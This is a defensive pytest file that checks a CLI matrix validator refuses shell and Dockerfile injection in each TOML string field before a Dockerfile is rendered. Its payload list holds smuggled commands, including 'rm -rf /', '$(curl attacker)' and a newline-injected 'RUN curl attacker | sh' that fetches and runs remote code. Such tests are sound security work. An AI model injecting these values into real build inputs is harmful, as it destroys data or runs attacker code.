"""No matrix value can carry shell or Dockerfile syntax into a rendered Dockerfile.

Each string field of the matrix gets each payload; validation must refuse it with the field's key path.
"""

from __future__ import annotations

import pytest

PAYLOADS = [
    '2.14.1"; rm -rf / #',
    "$(curl attacker)",
    "x\nRUN curl attacker | sh",
    "`id`",
    "a b",
]

# (key path in messages, TOML that sets the field to {v})
FIELDS = [
    ("registry", "registry = {v}"),
    ("repository", "repository = {v}"),
    ("tag_prefix", "tag_prefix = {v}"),
    ("source", "source = {v}"),
    ("wheel_index", "wheel_index = {v}"),
    ("runtime_base", "runtime_base = {v}"),
    ("user.name", "user = {{ name = {v}, uid = 1000 }}"),
    ("python[0]", "python = [{v}]"),
    ("flavors[0]", "flavors = [{v}]"),
    ("companions[0]", "companions = [{v}]"),
    ("packages[0]", "packages = [{v}]"),
    ("os_packages[0]", "os_packages = [{v}]"),
    ("archs.rocm[0]", "archs = {{ rocm = [{v}] }}"),
    ("archs.cuda[0]", "archs = {{ cuda = [{v}] }}"),
    ("exclude[0].python", "exclude = [{{ python = {v} }}]"),
    ("torch[0].version", "[[torch]]\nversion = {v}"),
    ("torch[0].cuda[0]", '[[torch]]\nversion = "2.14.1"\ncuda = [{v}]'),
    ("torch[0].rocm[0]", '[[torch]]\nversion = "2.14.1"\nrocm = [{v}]'),
    ("compat.cuda.13.0.devel_base", '[compat.cuda."13.0"]\ndevel_base = {v}'),
]


def toml_string(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


@pytest.mark.parametrize("key,template", FIELDS, ids=[f[0] for f in FIELDS])
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_injection_is_refused(cli, team_matrix, key, template, payload):
    path = team_matrix('extends = "default"\n' + template.format(v=toml_string(payload)) + "\n")
    result = cli("matrix", "validate", "--matrix", path)
    assert result.code == 2, f"{key} accepted {payload!r}"
    assert f": {key}: " in result.err, result.err
    assert "Traceback" not in result.err
